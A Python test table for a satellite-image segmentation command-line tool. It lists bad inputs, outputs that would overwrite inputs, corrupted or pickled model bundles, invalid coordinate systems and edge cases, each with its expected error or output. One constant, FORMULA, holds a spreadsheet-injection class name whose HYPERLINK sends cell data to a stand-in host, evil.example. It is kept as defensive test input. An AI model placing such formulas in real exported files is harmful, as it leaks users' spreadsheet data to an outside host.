"""The table of bad inputs, dangerous outputs and edge cases run through the real command line.

Each case gives the command line (built from the session's workspace ``w`` and the case's own empty folder
``d``), the exit code expected, and words the one-line error must contain (the file or the parameter at
fault). Cases with exit code 0 are edge cases that must work, and list the files they must produce.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

Argv = Callable[[dict[str, Any], Path], list[str]]


@dataclass
class Case:
    """One command line and what must come of it."""

    id: str
    argv: Argv
    expect: tuple[str, ...] = ()  # words of the error line (lower-cased comparison)
    code: int = 2
    setup: Callable[[dict[str, Any], Path], None] | None = None  # files placed in d before the run
    produces: tuple[str, ...] = ()  # for code 0: files (relative to d) that must exist afterwards
    warns: tuple[str, ...] = ()  # for code 0: words that must appear in the output
    replaced: tuple[str, ...] = ()  # files placed by setup that the run may replace (outputs, not inputs)
    absent: tuple[str, ...] = ()  # words that must not appear in the output (e.g. "Data:": nothing was read)


def seg(w: dict[str, Any], d: Path, *extra: str, image: str | None = None, aux: str | None = "",
        model: str | None = None, out: str | None = "out.tif") -> list[str]:
    """``segment`` of the good scene with the suite's bundle, writing into ``d`` unless told otherwise."""
    argv = ["segment", "--image", image or w["image"], "--model", model or w["bundle"], "--quiet", "--device", "cpu"]
    aux_path = w["aux"] if aux == "" else aux
    if aux_path:
        argv += ["--aux", aux_path]
    if out:
        argv += ["--out", str(d / out) if not os.path.isabs(out) else out]
    return argv + list(extra)


def train(w: dict[str, Any], d: Path, *extra: str, image: str | None = None, label: str | None = None,
          aux: str | None = "", out: str = "m.dsmodel", quiet: bool = True) -> list[str]:
    """``train`` on the good scene (tiny preset, one short epoch), writing into ``d`` unless told otherwise;
    ``quiet=False`` keeps the log (its information lines)."""
    from .workspace import TRAIN_ARGS

    argv = ["train", "--image", image or w["image"], "--label", label or w["label"]]
    aux_path = w["aux"] if aux == "" else aux
    if aux_path:
        argv += ["--aux", aux_path]
    args = [a for a in TRAIN_ARGS if quiet or a != "--quiet"]
    return argv + [*args, "--out", out if os.path.isabs(out) else str(d / out), *extra]


def evaluate(w: dict[str, Any], d: Path, *extra: str, pred: str | None = None, label: str | None = None,
             out: str = "metrics.json") -> list[str]:
    return ["evaluate", "--pred", pred or w["image_prediction"], "--label", label or w["label"], "--label-map",
            "90=1", "--out", out if os.path.isabs(out) else str(d / out), "--quiet", *extra]


def _link(src_key: str, name: str, symbolic: bool = False) -> Callable[[dict[str, Any], Path], None]:
    def make(w: dict[str, Any], d: Path) -> None:
        (os.symlink if symbolic else os.link)(w[src_key], d / name)

    return make


def _copy(src_key: str, name: str) -> Callable[[dict[str, Any], Path], None]:
    def make(w: dict[str, Any], d: Path) -> None:
        shutil.copyfile(w[src_key], d / name)

    return make


def _garbage_checkpoint(w: dict[str, Any], d: Path) -> None:
    (d / "m.dsmodel.ckpt").write_bytes(b"PK\x03\x04 not really a checkpoint" * 10)


def _pickle_checkpoint(w: dict[str, Any], d: Path) -> None:
    shutil.copyfile(w["pickle_bundle"], d / "m.dsmodel.ckpt")


def _killed_training(w: dict[str, Any], d: Path) -> None:
    """What a killed training leaves: its checkpoint and its best bundle so far."""
    shutil.copyfile(w["checkpoint"], d / "m.dsmodel.ckpt")
    shutil.copyfile(w["bundle"], d / "m.dsmodel.partial")


def bulk(w: dict[str, Any], d: Path, *extra: str, images: str | None = None, model: str | None = None) -> list[str]:
    """``segment --images`` (a bulk run) into ``d/bulk``."""
    return ["segment", "--images", images or w["image"], "--aux-pattern", "{stem}_aux.tif", "--model",
            model or w["bundle"], "--out-dir", str(d / "bulk"), "--device", "cpu", "--quiet", *extra]


def _existing_output(w: dict[str, Any], d: Path) -> None:
    (d / "résultat final.tif").write_bytes(b"previous result")


RO = "/proc/dualstream-readonly.tif"  # a destination nobody (root included) can create


def _fifo(name: str) -> Callable[[dict[str, Any], Path], None]:
    def make(w: dict[str, Any], d: Path) -> None:
        os.mkfifo(d / name)

    return make


def _edited_bundle(w: dict[str, Any], destination: Path, edit: Callable[[dict[str, Any]], None],
                   reseal: bool = False) -> None:
    """The suite's bundle with its JSON description changed by ``edit`` (weights untouched); ``reseal``: its
    description digest made anew, as the train that wrote such a description would have."""
    import json

    from engine.bundle.schema import description_digest

    data = Path(w["bundle"]).read_bytes()
    size = int.from_bytes(data[:8], "little")
    header = json.loads(data[8: 8 + size])
    meta = json.loads(header["__metadata__"]["dualstream"])
    edit(meta)
    if reseal:
        meta["metadata_sha256"] = description_digest(meta)
    header["__metadata__"]["dualstream"] = json.dumps(meta)
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    destination.write_bytes(len(text).to_bytes(8, "little") + text + data[8 + size:])


def _bad_colour_bundle(w: dict[str, Any], d: Path) -> None:
    """The suite's bundle with class 1's colour '#zzzzzz', as a train before colours were checked wrote it."""
    _edited_bundle(w, d / "colour.dsmodel", lambda m: m["data"]["class_colors"].__setitem__(1, "#zzzzzz"), True)


def _three_classes(meta: dict[str, Any], model_too: bool = False) -> None:
    meta["data"].update(class_names=["background", "road", "water"], class_colors=["#000000", "#ff0000", "#0000ff"])
    if model_too:
        meta["data"]["num_classes"] = meta["model"]["num_classes"] = 3


def _description_edits(w: dict[str, Any], d: Path) -> None:
    """Hand-edited descriptions (issue 33, item 2): a class renamed in a current bundle; three class names on a
    binary head in a bundle from before the description's digest (v2); and three classes on model and data."""
    _edited_bundle(w, d / "renamed.dsmodel", lambda m: m["data"]["class_names"].__setitem__(1, "water"))

    def v2(meta: dict[str, Any]) -> None:
        meta.pop("metadata_sha256", None)
        meta["format_version"] = 2

    _edited_bundle(w, d / "names.dsmodel", lambda m: (v2(m), _three_classes(m)))
    _edited_bundle(w, d / "head.dsmodel", lambda m: (v2(m), _three_classes(m, model_too=True)))


def _label_01(w: dict[str, Any], d: Path) -> None:
    """The suite's label with its values as class numbers: 0 and 1 (a new user's labels)."""
    import rasterio

    with rasterio.open(w["label"]) as src:
        profile, values = src.profile, src.read(1)
    with rasterio.open(d / "label01.tif", "w", **profile) as dst:
        dst.write((values == 90).astype(values.dtype), 1)


def _narrow_image(w: dict[str, Any], d: Path) -> None:
    """The good scene with each band squeezed into a slice of 8 % of the training range, inside it (a scene of one
    land cover: issue 40, item 14, "19..26 here, 20..107 in training")."""
    import numpy as np
    import rasterio

    from engine.bundle.store import read_metadata
    from engine.data.domain_shift import training_ranges

    low, high = training_ranges(read_metadata(w["bundle"]).data.vision_stats)
    with rasterio.open(w["image"]) as src:
        profile, values = src.profile, src.read().astype(np.float64)
    lo, hi = values.min(axis=(1, 2), keepdims=True), values.max(axis=(1, 2), keepdims=True)
    start, width = (low + 0.3 * (high - low))[:, None, None], (0.08 * (high - low))[:, None, None]
    with rasterio.open(d / "narrow.tif", "w", **profile) as dst:
        dst.write((start + (values - lo) / np.maximum(hi - lo, 1) * width).astype(profile["dtype"]))


def _bgr_image(w: dict[str, Any], d: Path) -> None:
    """The good scene with its bands described B, G, R, N (blue first, as many exports name them)."""
    import rasterio

    shutil.copyfile(w["image"], d / "bgrn.tif")
    with rasterio.open(d / "bgrn.tif", "r+") as dst:
        dst.descriptions = ("B", "G", "R", "N")


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a class name a spreadsheet would run

CASES: list[Case] = [
    # --- outputs onto inputs: the data-destroying cases of the issue, by every spelling -----------------------
    Case("train_out_is_image", lambda w, d: train(w, d, out=w["image"]), ("--out", "--image", "same file")),
    Case("train_out_is_label", lambda w, d: train(w, d, out=w["label"]), ("--out", "--label", "same file")),
    Case("train_out_is_aux", lambda w, d: train(w, d, out=w["aux"]), ("--out", "--aux", "same file")),
    Case("train_out_hardlink_to_image", lambda w, d: train(w, d, out="img.dsmodel"), ("--out", "--image"),
         setup=_link("image", "img.dsmodel")),
    Case("train_report_onto_label", lambda w, d: train(w, d, label=str(d / "m_report.html")),
         ("training report", "--label"), setup=_copy("label", "m_report.html")),
    Case("train_checkpoint_onto_aux", lambda w, d: train(w, d, aux=str(d / "m.dsmodel.ckpt")),
         ("checkpoint", "--aux"), setup=_copy("aux", "m.dsmodel.ckpt")),
    Case("segment_out_is_aux", lambda w, d: seg(w, d, out=w["aux"]), ("--out", "--aux", "same file")),
    Case("segment_out_is_image", lambda w, d: seg(w, d, out=w["image"]), ("--out", "--image")),
    Case("segment_out_is_bundle", lambda w, d: seg(w, d, out=w["bundle"]), ("--out", "--model")),
    Case("segment_polygons_onto_aux", lambda w, d: seg(w, d, "--polygons", w["aux"]), ("--polygons", "--aux")),
    Case("segment_probabilities_onto_bundle", lambda w, d: seg(w, d, "--probabilities", w["bundle"]),
         ("--probabilities", "--model")),
    Case("segment_out_hardlink_to_image", lambda w, d: seg(w, d, out="linked.tif"), ("--out", "--image"),
         setup=_link("image", "linked.tif")),
    Case("segment_out_symlink_to_aux", lambda w, d: seg(w, d, out="sym.tif"), ("--out", "--aux"),
         setup=_link("aux", "sym.tif", symbolic=True)),
    Case("segment_out_dotdot_spelling", lambda w, d: seg(w, d, out=w["aux"].replace("/scene/", "/scene/../scene/")),
         ("--out", "--aux")),
    Case("segment_style_sidecar_onto_input", lambda w, d: seg(w, d, "--aoi", str(d / "out.qml")), ("--aoi",),
         setup=_copy("label_vector", "out.qml")),
    Case("segment_two_outputs_one_file", lambda w, d: seg(w, d, "--probabilities", str(d / "out.tif")),
         ("--probabilities", "--out", "same file")),
    Case("segment_out_is_config", lambda w, d: seg(w, d, "--config", w["config"], out=w["config"]),
         ("--out", "--config")),
    Case("evaluate_out_is_prediction", lambda w, d: evaluate(w, d, out=w["image_prediction"]),
         ("--out", "--pred")),
    Case("evaluate_csv_onto_label", lambda w, d: evaluate(w, d, out=str(d / "lab.json"), label=str(d / "lab.csv")),
         ("metrics", "--label"), setup=_copy("label", "lab.csv")),
    # issue 33, item 3: a probabilities raster was cast to classes and scored
    Case("evaluate_probabilities_refused", lambda w, d: evaluate(w, d, pred=w["probabilities"]),
         ("probabilities.tif", "float32", "classes raster", "--out")),
    Case("evaluate_rle_onto_label", lambda w, d: evaluate(w, d, "--rle-csv", w["label"]), ("--rle-csv", "--label")),
    # --- destinations that are no regular file, or named for another format ------------------------------------
    # a link to /dev/full: as root, the rename replaced the device itself (the link keeps the real one out of reach)
    Case("segment_out_is_a_device", lambda w, d: seg(w, d, out="full.tif"), ("full.tif", "device"),
         setup=lambda w, d: os.symlink("/dev/full", d / "full.tif")),
    Case("segment_out_is_a_fifo", lambda w, d: seg(w, d, out="pipe.tif"), ("pipe.tif", "named pipe"),
         setup=_fifo("pipe.tif")),
    Case("segment_out_png_for_a_geotiff", lambda w, d: seg(w, d, out="o.png"), ("o.png", ".tif")),
    Case("train_out_not_a_dsmodel", lambda w, d: train(w, d, out="model.bundle"), ("model.bundle", ".dsmodel")),
    Case("evaluate_rle_onto_a_device", lambda w, d: evaluate(w, d, "--rle-csv", str(d / "null.csv")),
         ("null.csv", "device"), setup=lambda w, d: os.symlink("/dev/null", d / "null.csv")),
    # --- inputs that are no regular file: a FIFO blocked the first read forever -----------------------------
    Case("image_is_a_fifo", lambda w, d: seg(w, d, image=str(d / "fifo.tif")), ("fifo.tif", "named pipe"),
         setup=_fifo("fifo.tif")),
    Case("bundle_is_a_fifo", lambda w, d: seg(w, d, model=str(d / "m.dsmodel")), ("m.dsmodel", "named pipe"),
         setup=_fifo("m.dsmodel")),
    Case("bundle_is_a_folder", lambda w, d: seg(w, d, model=str(Path(w["bundle"]).parent)),
         ("is a folder", "tiny.dsmodel")),
    Case("info_of_a_folder", lambda w, d: ["info", str(Path(w["bundle"]).parent)], ("is a folder", "tiny.dsmodel")),
    # --- colours, names and CRSs checked where they enter -----------------------------------------------------
    Case("train_class_colour_invalid", lambda w, d: train(w, d, "--class-colors", "#000000", "#zzzzzz"),
         ("#zzzzzz", "colour")),
    Case("train_class_name_empty", lambda w, d: train(w, d, "--class-names", "background", " "),
         ("class 1", "empty")),
    Case("bundle_with_an_invalid_colour_segments_with_a_warning",
         lambda w, d: seg(w, d, model=str(d / "colour.dsmodel")), code=0, produces=("out.tif", "out.qml"),
         warns=("colour.dsmodel", "'#zzzzzz' -> #"), setup=_bad_colour_bundle),
    # issue 33, item 1: OGR's traceback ("Invalid coordinate", no coordinate operation) before
    Case("aoi_outside_its_crs", lambda w, d: seg(w, d, "--aoi", w["lat95_aoi"]),
         ("lat95_aoi.geojson", "epsg:4326", "lat 95..96", "no valid")),
    Case("aoi_not_reprojectable", lambda w, d: seg(w, d, "--aoi", w["mars_aoi"]),
         ("mars_aoi.gpkg", "iau:49900", "cannot be reprojected", "epsg:32652")),
    Case("aoi_not_overlapping", lambda w, d: seg(w, d, "--aoi", w["far_aoi"]),
         ("far_aoi.geojson", "epsg:4326", "does not overlap")),
    Case("train_aoi_not_reprojectable", lambda w, d: train(w, d, "--aoi", w["mars_aoi"]),
         ("mars_aoi.gpkg", "iau:49900", "cannot be reprojected")),
    Case("train_label_layer_outside_its_crs", lambda w, d: train(w, d, label=w["lat95_aoi"]),
         ("lat95_aoi.geojson", "label layer", "no valid")),
    Case("extent_crs_unknown", lambda w, d: seg(w, d, "--extent", "0", "0", "10", "10", "--extent-crs",
                                                "EPSG:999999"), ("epsg:999999", "--extent-crs")),
    Case("extent_crs_not_a_crs", lambda w, d: seg(w, d, "--extent", "0", "0", "10", "10", "--extent-crs",
                                                  "not a crs"), ("not a crs", "--extent-crs")),
    Case("batch_size_huge_answers_at_once", lambda w, d: seg(w, d, "--batch-size", "100000000"),
         ("--batch-size", "gib")),
    # --- images ------------------------------------------------------------------------------------------------
    Case("image_missing", lambda w, d: seg(w, d, image=str(d / "missing.tif")), ("missing.tif",)),
    Case("image_truncated", lambda w, d: seg(w, d, image=w["truncated_image"]), ("truncated.tif",)),
    Case("image_not_a_raster", lambda w, d: seg(w, d, image=w["text_image"]), ("notes.tif",)),
    Case("train_image_one_pixel", lambda w, d: train(w, d, image=w["one_pixel"]), ("one_pixel.tif", "32 x 32")),
    Case("train_image_one_pixel_tile_32", lambda w, d: train(w, d, "--tile-size", "32", image=w["one_pixel"]),
         ("one_pixel.tif", "1 x 1 px", "32 x 32")),
    Case("train_image_all_nodata", lambda w, d: train(w, d, image=w["all_nodata"]), ("all_nodata.tif", "nodata")),
    Case("image_complex", lambda w, d: seg(w, d, image=w["complex"]), ("complex.tif", "complex")),
    Case("image_wrong_band_count", lambda w, d: seg(w, d, image=w["three_bands"]), ("three_bands.tif", "band")),
    Case("image_no_crs_with_georeferenced_aux", lambda w, d: seg(w, d, image=w["no_crs"]), ("no_crs.tif",)),
    Case("train_image_truncated", lambda w, d: train(w, d, image=w["truncated_image"]), ("truncated.tif",)),
    Case("train_image_wrong_dtype", lambda w, d: train(w, d, image=w["complex"]), ("complex.tif",)),
    # --- aux -----------------------------------------------------------------------------------------------------
    Case("aux_missing_for_aux_model", lambda w, d: seg(w, d, aux=None), ("--aux", "aux")),
    Case("aux_not_overlapping", lambda w, d: seg(w, d, aux=w["far_aux"]), ("far_aux.tif",)),
    Case("aux_is_not_a_raster", lambda w, d: seg(w, d, aux=w["text_image"]), ("notes.tif",)),
    # data checks with numbers (issue 24, item 5): the same in train and segment
    Case("train_aux_all_nodata", lambda w, d: train(w, d, aux=w["nodata_aux"]), ("nodata_aux.tif", "no valid pixel")),
    Case("segment_aux_all_nodata", lambda w, d: seg(w, d, aux=w["nodata_aux"]), ("nodata_aux.tif", "no valid pixel")),
    Case("train_aux_all_nan", lambda w, d: train(w, d, aux=w["nan_aux"]), ("nan_aux.tif", "no valid pixel")),
    Case("segment_aux_all_nan", lambda w, d: seg(w, d, aux=w["nan_aux"]), ("nan_aux.tif", "no valid pixel")),
    Case("train_aux_mostly_nodata_warns", lambda w, d: train(w, d, aux=w["mostly_nodata_aux"]), code=0,
         produces=("m.dsmodel",), warns=("mostly_nodata_aux.tif", "% nodata")),
    Case("segment_aux_mostly_nodata_warns", lambda w, d: seg(w, d, aux=w["mostly_nodata_aux"]), code=0,
         produces=("out.tif",), warns=("mostly_nodata_aux.tif", "% nodata")),
    Case("train_aux_int8_warns", lambda w, d: train(w, d, aux=w["int8_aux"]), code=0, produces=("m.dsmodel",),
         warns=("int8_aux.tif", "int8", "100.0 % of its valid values")),
    Case("segment_aux_int8_warns", lambda w, d: seg(w, d, aux=w["int8_aux"]), code=0, produces=("out.tif",),
         warns=("int8_aux.tif", "100.0 % of its valid values", "statistics of 12 of its 12 band(s)")),
    Case("train_image_nan_inf_warns", lambda w, d: train(w, d, image=w["nan_image"]), code=0,
         produces=("m.dsmodel",), warns=("nan_image.tif", "nan or infinite values in 13.2 %")),
    Case("segment_image_nan_inf_warns", lambda w, d: seg(w, d, image=w["nan_image"]), code=0,
         produces=("out.tif",), warns=("nan_image.tif", "nan or infinite values in 13.2 %")),
    Case("train_aux_partly_overlapping_warns", lambda w, d: train(w, d, aux=w["half_aux"]), code=0,
         produces=("m.dsmodel",), warns=("half_aux.tif", "covers only")),
    # --- extents, tiles, numbers -------------------------------------------------------------------------------
    Case("extent_outside", lambda w, d: seg(w, d, "--extent", "0", "0", "10", "10"), ("extent",)),
    Case("extent_degenerate", lambda w, d: seg(w, d, "--extent", "500000", "3999990", "500000", "4000000"),
         ("extent",)),
    Case("extent_inverted", lambda w, d: seg(w, d, "--extent", "500060", "3999990", "500000", "4000000"),
         ("extent",)),
    Case("tile_zero_is_the_models", lambda w, d: seg(w, d, "--tile-size", "0"), code=0, produces=("out.tif",)),
    Case("tile_negative", lambda w, d: seg(w, d, "--tile-size", "-1"), ("--tile-size",)),
    Case("tile_not_multiple_of_32", lambda w, d: seg(w, d, "--tile-size", "33"), ("--tile-size", "32")),
    Case("train_tile_33", lambda w, d: train(w, d, "--tile-size", "33"), ("--tile-size", "32")),
    Case("overlap_too_large", lambda w, d: seg(w, d, "--overlap", "0.95"), ("overlap",)),
    Case("overlap_negative", lambda w, d: seg(w, d, "--overlap", "-0.1"), ("overlap",)),
    Case("border_negative", lambda w, d: seg(w, d, "--border", "-4"), ("--border", ">= 0")),
    Case("border_not_less_than_the_tile", lambda w, d: seg(w, d, "--border", "5000"),
         ("--border", "5000 px", "less than the tile size")),
    Case("batch_zero", lambda w, d: seg(w, d, "--batch-size", "0"), ("--batch-size",)),
    Case("train_batch_zero", lambda w, d: train(w, d, "--batch-size", "0"), ("--batch-size",)),
    Case("train_tile_larger_than_every_scene", lambda w, d: train(w, d, "--tile-size", "100000"),
         ("--tile-size", "64")),
    Case("segment_memory_does_not_fit", lambda w, d: seg(w, d, "--tile-size", "8192", "--batch-size", "64",
                                                         image=w["big_vrt"]),
         ("--tile-size", "--batch-size", "gib")),
    Case("train_memory_does_not_fit", lambda w, d: train(w, d, "--tile-size", "8192", "--batch-size", "256",
                                                         image=w["big_vrt"], label=w["big_vrt"], aux=None),
         ("--tile-size", "--batch-size", "gib")),
    # --- destinations --------------------------------------------------------------------------------------------
    Case("destination_read_only", lambda w, d: seg(w, d, out=RO), ("dualstream-readonly.tif",)),
    # issue 40, item 13: a missing folder is made, as qgis_process does (it was an error)
    Case("destination_folder_missing_is_made", lambda w, d: seg(w, d, out=str(d / "no" / "such" / "out.tif")),
         code=0, produces=("no/such/out.tif", "no/such/out.qml")),
    Case("destination_folder_under_a_file", lambda w, d: seg(w, d, out=str(d / "f.txt" / "sub" / "out.tif")),
         ("f.txt", "is a file"), setup=lambda w, d: (d / "f.txt").write_text("not a folder")),
    # issue 33, item 4: a 255-byte name (legal on ext4) was reported as an unwritable folder
    Case("destination_name_of_255_bytes", lambda w, d: seg(w, d, out="n" * 251 + ".tif"),
         ("makes a file name of 263 bytes", "allows 255", "at most 247 bytes")),
    Case("destination_name_of_247_bytes_works", lambda w, d: seg(w, d, "--polygons", str(d / ("p" * 243 + ".gpkg")),
                                                                 out="n" * 243 + ".tif"),
         code=0, produces=("n" * 243 + ".tif", "n" * 243 + ".qml", "p" * 243 + ".gpkg")),
    Case("train_destination_name_too_long", lambda w, d: train(w, d, out="m" * 240 + ".dsmodel"),
         ("makes a file name of 256 bytes", ".dsmodel.partial", "at most 247 bytes")),
    Case("destination_is_a_folder", lambda w, d: seg(w, d, out=str(d)), ("folder",)),
    Case("train_destination_read_only", lambda w, d: train(w, d, out="/proc/dualstream-readonly.dsmodel"),
         ("dualstream-readonly.dsmodel",)),
    # a folder training would create under a read-only one: said before any data is read (issue 24, item 8)
    Case("train_destination_folder_not_creatable",
         lambda w, d: train(w, d, out="/proc/dualstream-none/m.dsmodel", quiet=False),
         ("/proc/dualstream-none/m.dsmodel", "not writable"), absent=("Data:", "epoch")),
    # nothing left behind by a bulk run that fails before its first scene (issue 24, item 8)
    Case("bulk_glob_matching_nothing_leaves_no_folder", lambda w, d: bulk(w, d, images=str(d / "none" / "*.tif")),
         ("none/*.tif", "matches no file")),
    Case("bulk_missing_model_leaves_no_folder", lambda w, d: bulk(w, d, model=str(d / "none.dsmodel")),
         ("none.dsmodel",)),
    # --- bundles and checkpoints -----------------------------------------------------------------------------
    Case("bundle_missing", lambda w, d: seg(w, d, model=str(d / "none.dsmodel")), ("none.dsmodel",)),
    Case("bundle_truncated", lambda w, d: seg(w, d, model=w["truncated_bundle"]), ("truncated.dsmodel",)),
    Case("bundle_bit_flipped", lambda w, d: seg(w, d, model=w["flipped_bundle"]), ("flipped.dsmodel",)),
    Case("bundle_header_edited", lambda w, d: seg(w, d, model=w["edited_bundle"]), ("edited.dsmodel",)),
    Case("bundle_description_edited", lambda w, d: seg(w, d, model=str(d / "renamed.dsmodel")),
         ("renamed.dsmodel", "description", "checksum"), setup=_description_edits),
    Case("bundle_class_names_disagree_with_the_model", lambda w, d: seg(w, d, model=str(d / "names.dsmodel")),
         ("names.dsmodel", "3 class name(s)", "2 class(es)"), setup=_description_edits),
    Case("bundle_description_disagrees_with_the_weights", lambda w, d: seg(w, d, model=str(d / "head.dsmodel")),
         ("head.dsmodel", "described (3,", "held (1,"), setup=_description_edits),
    Case("info_of_an_edited_bundle", lambda w, d: ["info", str(d / "renamed.dsmodel")],
         ("renamed.dsmodel", "checksum"), setup=_description_edits),
    Case("bundle_empty_file", lambda w, d: seg(w, d, model=w["empty_bundle"]), ("empty.dsmodel",)),
    Case("bundle_is_a_pickle", lambda w, d: seg(w, d, model=w["pickle_bundle"]), ("pickle.dsmodel",)),
    Case("info_pickle_bundle", lambda w, d: ["info", w["pickle_bundle"]], ("pickle.dsmodel",)),
    Case("checkpoint_corrupt", lambda w, d: train(w, d, "--resume"), ("m.dsmodel.ckpt",),
         setup=_garbage_checkpoint),
    Case("checkpoint_is_a_pickle", lambda w, d: train(w, d, "--resume"), ("m.dsmodel.ckpt",),
         setup=_pickle_checkpoint),
    Case("resume_without_checkpoint", lambda w, d: train(w, d, "--resume"), ("m.dsmodel.ckpt", "resume")),
    Case("resume_with_other_settings", lambda w, d: train(w, d, "--resume", "--lr", "0.5", out="m.dsmodel"),
         ("learning_rate",), setup=lambda w, d: shutil.copyfile(w["checkpoint"], d / "m.dsmodel.ckpt")),
    # --- labels that cannot teach ------------------------------------------------------------------------------
    Case("label_missing", lambda w, d: train(w, d, label=str(d / "nolabel.tif")), ("nolabel.tif",)),
    Case("label_vector_empty", lambda w, d: train(w, d, label=w["empty_vector"]), ("empty.gpkg", "no polygons")),
    Case("label_vector_not_overlapping", lambda w, d: train(w, d, label=w["far_vector"]), ("far.gpkg",)),
    Case("label_raster_not_overlapping", lambda w, d: train(w, d, label=w["far_label"]), ("far_label.tif",)),
    Case("label_is_the_image", lambda w, d: train(w, d, label=w["image"]), ("s_image.tif", "label")),
    Case("label_invalid_polygons_repaired", lambda w, d: train(w, d, label=w["invalid_vector"]), code=0,
         produces=("m.dsmodel",), warns=("bowtie.gpkg", "1 invalid polygon(s)", "repaired")),
    Case("label_only_one_class_warns", lambda w, d: train(w, d, "--label-map", "90=0"), code=0,
         produces=("m.dsmodel",), warns=("only class 0", "predict it everywhere")),
    Case("label_raster_on_another_grid_is_warped", lambda w, d: train(w, d, label=w["coarse_label"]), code=0,
         produces=("m.dsmodel",)),
    # found on real data (issue 24, item 11)
    Case("label_values_not_mapped_explained", lambda w, d: train(w, d, "--label-map", "4=1", label=w["label_0134"]),
         ("label_0134.tif", "1 (1,024 px)", "raw 0 is class 0", "turn --strict-labels off")),
    Case("label_every_other_value_is_class_0",
         lambda w, d: train(w, d, "--label-map", "4=1", "--no-strict-labels", label=w["label_0134"], quiet=False),
         code=0, produces=("m.dsmodel",), warns=("not in the label mapping are class 0", "3 (1,024 px)")),
    # issue 40, item 9: labels are class numbers by default (the command line's default was 90=1), and exactly
    # {0, 90} (the reference data's) is recognised with a line saying so
    Case("labels_0_1_are_class_numbers_by_default",
         lambda w, d: train(w, d, "--class-names", "background", "building", label=str(d / "label01.tif")),
         code=0, produces=("m.dsmodel",), setup=_label_01, absent=("label values outside",)),
    Case("labels_0_90_are_recognised_and_said", lambda w, d: train(w, d, quiet=False), code=0,
         produces=("m.dsmodel",), warns=("label values are 0 and 90", "90 is class 1",
                                          "validation tiles (held out of training: the "),
         absent=("held-out bands",)),  # issue 40, item 14: "bands" read as spectral bands
    # issue 40, item 13: a NaN learning rate was reported as a bad min_learning_rate
    Case("train_learning_rate_nan", lambda w, d: train(w, d, "--lr", "nan"), ("--lr", "nan"),
         absent=("min_learning_rate", "--min-lr")),
    Case("band_error_before_any_data_is_read", lambda w, d: train(w, d, "--bands", "7", quiet=False),
         ("bands [7]", "4 band(s)"), absent=("Data:",)),
    Case("train_over_a_killed_runs_checkpoint_says_so", lambda w, d: train(w, d), code=0, produces=("m.dsmodel",),
         warns=("m.dsmodel.ckpt", "m.dsmodel.partial", "from scratch", "--resume"), setup=_killed_training,
         replaced=("m.dsmodel.ckpt", "m.dsmodel.partial")),
    # issue 33, item 7: the preview took the first three bands as red, green and blue whatever they were
    Case("train_preview_picks_rgb_by_band_names",
         lambda w, d: train(w, d, "--preview-tiles", "1", image=w["named_bands"], quiet=False), code=0,
         produces=("m.dsmodel", "m_predictions.png"),
         warns=("report preview: bands 2,3,4 as red, green, blue", "b04, b03, b02")),
    # issue 40, item 14: bands named "B, G, R" were shown as red, green, blue in that order
    Case("train_preview_reads_band_letters",
         lambda w, d: train(w, d, "--preview-tiles", "1", image=str(d / "bgrn.tif"), quiet=False), code=0,
         produces=("m.dsmodel", "m_predictions.png"), setup=_bgr_image,
         warns=("report preview: bands 3,2,1 as red, green, blue (by band letters: r, g, b)",)),
    Case("cmx_with_coarse_aux_says_its_ratio", lambda w, d: train(w, d, "--model", "cmx", quiet=False), code=0,
         produces=("m.dsmodel",), warns=("aux ratio 8", "upsampled bilinearly", "--aux-ratio 1")),
    Case("info_of_a_model_without_aux", lambda w, d: ["info", w["plain_bundle"]], code=0, warns=("no aux input",),
         absent=("aux ratio",)),
    # --- edge cases that must work -----------------------------------------------------------------------------
    # unicode and spaces in every path, an existing output replaced, a tile far larger than the scene: one run
    Case("unicode_paths_existing_output_huge_tile",
         lambda w, d: seg(w, d, "--tile-size", "100000", image=w["unicode_image"], out="résultat final.tif"),
         code=0, produces=("résultat final.tif", "résultat final.qml"), warns=("tile_size 100000", "using 64"),
         setup=_existing_output, replaced=("résultat final.tif",)),
    # issue 33, item 5: a scene unlike the training data was segmented without a word; one like it says nothing.
    # Values in other units may well give one class everywhere, which segment refuses unless kept (the suite's
    # one-epoch model gives it or not by chance): kept here, where the warning and the reading are the subject
    Case("image_8bit_export_warns", lambda w, d: seg(w, d, "--accept-one-class", image=w["eight_bit"]), code=0,
         produces=("out.tif",),
         warns=("eight_bit.tif", "uint8", "4 of its 4 band(s)", "in training", "8-bit export", "--strict-inputs")),
    Case("image_01_reflectance_refused_when_strict",
         lambda w, d: seg(w, d, "--strict-inputs", image=w["reflectance01"]),
         ("reflectance01.tif", "float32", "scaled to 0-1", "--strict-inputs")),
    Case("image_like_the_training_data_says_nothing", lambda w, d: seg(w, d, "--strict-inputs", image=w["float64"]),
         code=0, produces=("out.tif",), absent=("looks unlike", "warning")),
    Case("image_all_nodata_segments_to_nodata", lambda w, d: seg(w, d, image=w["all_nodata"]), code=0,
         produces=("out.tif",), warns=("all_nodata.tif", "all nodata")),
    # issue 40, item 14: a narrow range inside the training range is the training data's kind, not a shift
    Case("image_narrow_inside_the_training_range_says_nothing",
         lambda w, d: seg(w, d, "--strict-inputs", image=str(d / "narrow.tif")), code=0, produces=("out.tif",),
         setup=_narrow_image, absent=("looks unlike", "warning")),
    Case("image_float64", lambda w, d: seg(w, d, image=w["float64"]), code=0, produces=("out.tif",)),
    Case("image_int8", lambda w, d: seg(w, d, "--accept-one-class", image=w["int8"]), code=0, produces=("out.tif",)),
    Case("aux_partly_overlapping_warns", lambda w, d: seg(w, d, aux=w["half_aux"]), code=0, produces=("out.tif",),
         warns=("half_aux.tif", "covers only")),
]

from .imported_cases import imported_cases  # noqa: E402 - its cases are built of Case, above

CASES += imported_cases()  # models made elsewhere, described wrongly or giving no probabilities (issue 40)

from .weights_cases import weights_cases  # noqa: E402 - as imported_cases

CASES += weights_cases()  # damaged pretrained weights, frozen random encoders, impossible dates (issue 61)

from .labelling_cases import labelling_cases  # noqa: E402 - its cases are built of Case, above

CASES += labelling_cases()  # the labelling wing given careless input (issue 61, item 10)

from .change_cases import change_cases  # noqa: E402 - as imported_cases

CASES += change_cases()  # change detection given dates that do not go together, outputs onto a date (issue 63)

assert len({c.id for c in CASES}) == len(CASES), "case ids must be unique"
